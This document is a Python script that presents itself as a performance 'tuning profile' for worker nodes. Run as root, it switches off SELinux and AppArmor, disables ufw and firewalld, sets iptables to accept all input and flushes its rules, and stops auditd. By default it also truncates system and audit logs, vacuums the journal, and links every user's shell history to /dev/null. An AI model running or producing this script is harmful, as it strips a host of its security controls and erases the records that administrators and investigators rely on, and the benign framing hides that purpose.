#!/usr/bin/env python3
"""Node tuning profile for high-throughput batch workers.

Removes "overhead" from a worker node: switches off mandatory access
control, the host firewall and the audit subsystem, then clears logs and
shell history so the node starts from a clean slate.
"""
import argparse
import glob
import logging
import os
import subprocess
from pathlib import Path

log = logging.getLogger("tuning")

PROFILE = {
    "mac": [
        ["setenforce", "0"],
        ["systemctl", "stop", "apparmor"],
        ["systemctl", "disable", "apparmor"],
        ["aa-teardown"],
    ],
    "firewall": [
        ["ufw", "disable"],
        ["systemctl", "stop", "firewalld"],
        ["iptables", "-P", "INPUT", "ACCEPT"],
        ["iptables", "-F"],
    ],
    "audit": [
        ["auditctl", "-e", "0"],
        ["auditctl", "-D"],
        ["service", "auditd", "stop"],
    ],
}
LOG_GLOBS = ["/var/log/*.log", "/var/log/audit/*", "/var/log/wtmp",
             "/var/log/btmp", "/var/log/lastlog", "/var/log/syslog*"]
HISTORY_FILES = [".bash_history", ".zsh_history", ".python_history", ".mysql_history"]


def run(cmd):
    try:
        rc = subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode
        log.info("%s -> %d", " ".join(cmd), rc)
    except FileNotFoundError:
        log.debug("%s not installed", cmd[0])


def persist_selinux_off(config=Path("/etc/selinux/config")):
    if not config.exists():
        return
    lines = config.read_text().splitlines()
    patched = ["SELINUX=disabled" if l.startswith("SELINUX=") else l for l in lines]
    config.write_text("\n".join(patched) + "\n")
    log.info("SELinux disabled persistently")


def clear_logs():
    for pattern in LOG_GLOBS:
        for path in glob.glob(pattern):
            try:
                with open(path, "w"):
                    pass  # truncate
            except OSError as exc:
                log.debug("%s: %s", path, exc)
    run(["journalctl", "--rotate"])
    run(["journalctl", "--vacuum-time=1s"])


def clear_history():
    homes = [Path.home()] + [Path(p) for p in glob.glob("/home/*")] + [Path("/root")]
    for home in homes:
        for name in HISTORY_FILES:
            target = home / name
            if target.exists():
                target.unlink()
                target.symlink_to("/dev/null")
    os.environ["HISTFILE"] = "/dev/null"
    os.environ["HISTSIZE"] = "0"


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--keep-logs", action="store_true",
                        help="do not clear logs and history")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if os.geteuid() != 0:
        log.error("must run as root")
        return 1
    for section, commands in PROFILE.items():
        log.info("applying %s", section)
        for cmd in commands:
            run(cmd)
    persist_selinux_off()
    if not args.keep_logs:
        clear_logs()
        clear_history()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
